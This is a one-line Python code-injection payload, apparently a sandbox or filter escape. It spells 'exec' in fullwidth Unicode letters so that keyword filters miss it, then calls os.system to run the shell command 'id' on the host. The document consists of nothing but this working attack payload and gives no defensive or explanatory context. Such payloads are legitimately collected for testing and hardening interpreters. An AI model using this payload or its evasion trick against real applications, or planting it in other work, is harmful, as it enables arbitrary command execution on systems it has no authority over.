ｅｘｅｃ("import os; os.system('id')")
